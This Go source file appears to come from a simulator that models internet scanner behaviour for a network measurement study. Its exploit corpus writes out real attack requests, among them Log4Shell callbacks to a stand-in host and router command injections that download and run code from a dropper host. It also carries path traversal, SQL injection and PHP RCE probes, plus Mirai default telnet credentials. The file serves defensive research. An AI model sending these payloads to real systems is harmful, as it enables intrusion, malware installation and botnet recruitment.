// Package scanners implements the simulated attacker/scanner
// population. Every behavioral bias the paper measures is expressed
// here as actor configuration — IP-structure preferences (§4.2),
// search-engine mining (§4.3), geographic credential tailoring (§5.1),
// telescope avoidance (§5.2), unexpected-protocol scanning (§6) — and
// the analysis pipeline must re-discover those biases from the traffic
// alone.
package scanners

import (
	"fmt"

	"cloudwatch/internal/fingerprint"
	"cloudwatch/internal/netsim"
)

// Payload families for HTTP-speaking actors. Payloads are shared
// read-only byte slices; emitters must not mutate them.
var (
	// Benign request-line corpus: ordinary crawling and inventory
	// scans. The paper finds 75% of HTTP/80 payloads send no exploit.
	benignHTTP = [][]byte{
		[]byte("GET / HTTP/1.1\r\nHost: server\r\nUser-Agent: Mozilla/5.0 (compatible; scanner)\r\nAccept: */*\r\n\r\n"),
		[]byte("GET /robots.txt HTTP/1.1\r\nHost: server\r\nUser-Agent: Mozilla/5.0\r\n\r\n"),
		[]byte("GET /favicon.ico HTTP/1.1\r\nHost: server\r\n\r\n"),
		[]byte("HEAD / HTTP/1.1\r\nHost: server\r\n\r\n"),
		[]byte("GET /index.html HTTP/1.1\r\nHost: server\r\nAccept: text/html\r\n\r\n"),
	}

	researchHTTP = [][]byte{
		[]byte("GET / HTTP/1.1\r\nHost: server\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\nAccept: */*\r\n\r\n"),
		[]byte("GET / HTTP/1.1\r\nHost: server\r\nUser-Agent: Mozilla/5.0 (compatible; CensysInspect/1.1)\r\n\r\n"),
	}

	nmapHTTP = [][]byte{
		[]byte("GET / HTTP/1.1\r\nHost: server\r\nUser-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine)\r\n\r\n"),
		[]byte("OPTIONS / HTTP/1.1\r\nHost: server\r\nUser-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine)\r\n\r\n"),
	}

	// Exploit corpus: each entry trips a distinct rule in
	// internal/ids. Weights applied by the actors decide the regional
	// payload mix.
	exploitLog4Shell = []byte("GET /?x=${jndi:ldap://callback.evil/a} HTTP/1.1\r\nHost: server\r\nUser-Agent: ${jndi:ldap://callback.evil/ua}\r\n\r\n")
	exploitGPON      = []byte("POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: server\r\n\r\nXWebPageName=diag&diag_action=ping&dest_host=;wget http://dropper/gpon -O /tmp/g;sh /tmp/g&ipv=0")
	exploitThinkPHP  = []byte("GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id HTTP/1.1\r\nHost: server\r\n\r\n")
	exploitPHPUnit   = []byte("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\nHost: server\r\n\r\n<?php system('id');")
	exploitJAWS      = []byte("GET /shell?cd+/tmp;rm+-rf+*;wget+http://dropper/jaws.sh;sh+/tmp/jaws.sh HTTP/1.1\r\nHost: server\r\n\r\n")
	exploitHuawei    = []byte("POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: server\r\nSOAPAction: urn:schemas-upnp-org:service:WANPPPConnection:1#Upgrade\r\n\r\n<u:Upgrade><NewDownloadURL>$(/bin/busybox wget http://dropper/hw -O -)</NewDownloadURL></u:Upgrade>")
	exploitHNAP      = []byte("POST /HNAP1 HTTP/1.1\r\nHost: server\r\nSOAPAction: \"http://purenetworks.com/HNAP1/`cd /tmp && wget http://dropper/h; sh h`\"\r\n\r\n")
	exploitMozi      = []byte("GET /picsdesc.xml HTTP/1.1\r\nHost: server\r\n\r\n<NewInternalClient>`wget http://dropper/Mozi.m -O /tmp/m; sh /tmp/m`</NewInternalClient>")
	exploitBoaform   = []byte("POST /boaform/admin/formLogin HTTP/1.1\r\nHost: server\r\n\r\nusername=admin&psd=admin")
	exploitCitrix    = []byte("POST /vpn/../vpns/portal/scripts/newbclink.pl HTTP/1.1\r\nHost: server\r\nNSC_USER: ../../../netscaler/portal/templates/x\r\n\r\n")
	exploitTraversal = []byte("GET /cgi-bin/../../../../etc/passwd HTTP/1.1\r\nHost: server\r\n\r\n")
	exploitSQLi      = []byte("GET /products?id=1+UNION+SELECT+username,password+FROM+users-- HTTP/1.1\r\nHost: server\r\n\r\n")
	exploitWPLogin   = []byte("POST /wp-login.php HTTP/1.1\r\nHost: server\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nlog=admin&pwd=admin123")
	exploitEnvProbe  = []byte("GET /.env HTTP/1.1\r\nHost: server\r\nUser-Agent: Mozilla/5.0\r\n\r\n")
	exploitGitProbe  = []byte("GET /.git/config HTTP/1.1\r\nHost: server\r\n\r\n")
	exploitHadoop    = []byte("POST /ws/v1/cluster/apps/new-application HTTP/1.1\r\nHost: server\r\n\r\n")
	exploitDocker    = []byte("POST /containers/create HTTP/1.1\r\nHost: server\r\nContent-Type: application/json\r\n\r\n{\"Image\":\"alpine\",\"Cmd\":[\"sh\"]}")
	exploitAndroid   = []byte("POST /login HTTP/1.1\r\nHost: server\r\nUser-Agent: Dalvik/2.1 (Linux; U; Android 9; emulator)\r\n\r\ncmd=chmod 777 ./adbminer; ./adbminer")
	exploitPostLogin = []byte("POST /api/login HTTP/1.1\r\nHost: server\r\nContent-Type: application/json\r\n\r\n{\"user\":\"admin\",\"pass\":\"admin\"}")
)

// Named payload groups used by regional actors; keys let tests assert
// mixes without copying bytes around.
var httpExploitGroups = map[string][][]byte{
	"global": {
		exploitLog4Shell, exploitGPON, exploitThinkPHP, exploitPHPUnit,
		exploitTraversal, exploitSQLi, exploitWPLogin, exploitEnvProbe,
		exploitGitProbe, exploitCitrix, exploitBoaform,
	},
	"iot-apac": {
		exploitHuawei, exploitMozi, exploitHNAP, exploitJAWS, exploitGPON,
		exploitBoaform,
	},
	"cloud-api": {
		exploitHadoop, exploitDocker, exploitLog4Shell,
	},
	"android": {
		exploitAndroid,
	},
	"post-login": {
		exploitPostLogin, exploitWPLogin,
	},
}

// HTTPExploits returns the payloads of a named exploit group. It
// panics on an unknown group name (a programming error in actor
// construction).
func HTTPExploits(group string) [][]byte {
	g, ok := httpExploitGroups[group]
	if !ok {
		panic(fmt.Sprintf("scanners: unknown exploit group %q", group))
	}
	return g
}

// BenignHTTP returns the benign HTTP request corpus.
func BenignHTTP() [][]byte { return benignHTTP }

// Interned-id mirrors of the payload corpora: every dictionary
// registers with the study-wide interner once at package init, and
// actors emit the resulting compact ids — the collection pipeline
// never hashes or copies payload bytes per probe.
var (
	benignHTTPIDs    = netsim.InternPayloads(benignHTTP)
	researchHTTPIDs  = netsim.InternPayloads(researchHTTP)
	nmapHTTPIDs      = netsim.InternPayloads(nmapHTTP)
	telnetCommandID  = netsim.InternPayload(telnetCommand)
	exploitAndroidID = netsim.InternPayload(exploitAndroid)
	exploitPostLogID = netsim.InternPayload(exploitPostLogin)

	httpExploitIDs = func() map[string][]netsim.PayloadID {
		m := make(map[string][]netsim.PayloadID, len(httpExploitGroups))
		for name, g := range httpExploitGroups {
			m[name] = netsim.InternPayloads(g)
		}
		return m
	}()

	// protoProbeIDs interns fingerprint.Probe for every identifiable
	// protocol, so protocol-probe emitters stop rebuilding the probe
	// bytes per packet.
	protoProbeIDs = func() map[fingerprint.Protocol]netsim.PayloadID {
		m := map[fingerprint.Protocol]netsim.PayloadID{}
		for _, p := range fingerprint.All() {
			m[p] = netsim.InternPayload(fingerprint.Probe(p))
		}
		return m
	}()
)

// HTTPExploitIDs returns the interned ids of a named exploit group, in
// HTTPExploits order. It panics on an unknown group name.
func HTTPExploitIDs(group string) []netsim.PayloadID {
	g, ok := httpExploitIDs[group]
	if !ok {
		panic(fmt.Sprintf("scanners: unknown exploit group %q", group))
	}
	return g
}

// ProbeID returns the interned id of fingerprint.Probe(p).
func ProbeID(p fingerprint.Protocol) netsim.PayloadID { return protoProbeIDs[p] }

// unexpectedProtocolProbes are the non-HTTP first payloads sent to
// HTTP-assigned ports (§6): TLS leads at 7%, then Telnet, SQL, RTSP,
// SMB.
var unexpectedProtocolProbes = []struct {
	Proto  fingerprint.Protocol
	Weight float64
}{
	{fingerprint.TLS, 7.0},
	{fingerprint.Telnet, 0.5},
	{fingerprint.MySQL, 0.4},
	{fingerprint.RTSP, 0.3},
	{fingerprint.SMB, 0.3},
	{fingerprint.Redis, 0.2},
	{fingerprint.SSH, 0.2},
}

// Credential dictionaries. Interactive actors attach these to their
// probes; only interactive collectors (Cowrie) observe them.
var (
	// Global telnet top credentials: the Mirai-era dictionary. The
	// paper's "top attempted Telnet usernames for most geographic
	// regions are root, admin, and support".
	telnetUsersGlobal = []netsim.Credential{
		{Username: "root", Password: "xc3511"},
		{Username: "root", Password: "vizxv"},
		{Username: "root", Password: "admin"},
		{Username: "admin", Password: "admin"},
		{Username: "root", Password: "888888"},
		{Username: "root", Password: "xmhdipc"},
		{Username: "root", Password: "default"},
		{Username: "root", Password: "juantech"},
		{Username: "support", Password: "support"},
		{Username: "root", Password: "123456"},
		{Username: "admin", Password: "password"},
		{Username: "root", Password: "54321"},
		{Username: "support", Password: "admin"},
		{Username: "root", Password: "root"},
		{Username: "user", Password: "user"},
		{Username: "admin", Password: "smcadmin"},
	}

	// Huawei-targeting dictionary seen "an order of magnitude" more in
	// the AWS Australia region (§5.1): e8ehome / mother.
	telnetUsersHuaweiAU = []netsim.Credential{
		{Username: "e8ehome", Password: "e8ehome"},
		{Username: "mother", Password: "fucker"},
		{Username: "e8telnet", Password: "e8telnet"},
		{Username: "mother", Password: "mother"},
	}

	// SSH bruteforce: usernames vary across campaigns far more than
	// passwords (§4.1: top-3 SSH usernames differ across 55% of
	// neighborhoods, passwords across only 4%).
	sshPasswordsCommon = []string{"123456", "password", "admin"}

	sshUserLists = map[string][]string{
		"root-heavy":    {"root", "admin", "test"},
		"service-heavy": {"oracle", "postgres", "mysql"},
		"cloud-heavy":   {"ubuntu", "ec2-user", "centos"},
		"user-heavy":    {"user", "guest", "ftpuser"},
		"iot-heavy":     {"pi", "nagios", "dev"},
	}

	sshUserListKeys = []string{"root-heavy", "service-heavy", "cloud-heavy", "user-heavy", "iot-heavy"}
)

// TelnetDictGlobal returns the global telnet dictionary.
func TelnetDictGlobal() []netsim.Credential { return telnetUsersGlobal }

// sshCredsByFlavor memoizes the per-flavor campaign dictionaries:
// several actors draw from them per probe, so they are built once at
// init instead of per call.
var sshCredsByFlavor = func() map[string][]netsim.Credential {
	m := make(map[string][]netsim.Credential, len(sshUserLists))
	for flavor, users := range sshUserLists {
		var out []netsim.Credential
		for _, u := range users {
			for _, p := range sshPasswordsCommon {
				out = append(out, netsim.Credential{Username: u, Password: p})
			}
		}
		m[flavor] = out
	}
	return m
}()

// sshCreds returns the credential list of one SSH campaign: a username
// flavor crossed with the shared password set. The list is shared and
// read-only.
func sshCreds(flavor string) []netsim.Credential {
	out, ok := sshCredsByFlavor[flavor]
	if !ok {
		panic(fmt.Sprintf("scanners: unknown ssh user flavor %q", flavor))
	}
	return out
}

// telnetCommand is the post-login command Mirai-style bots issue; it
// trips the busybox trojan rule when a payload-collecting honeypot
// records it.
var telnetCommand = []byte("enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI\r\n")
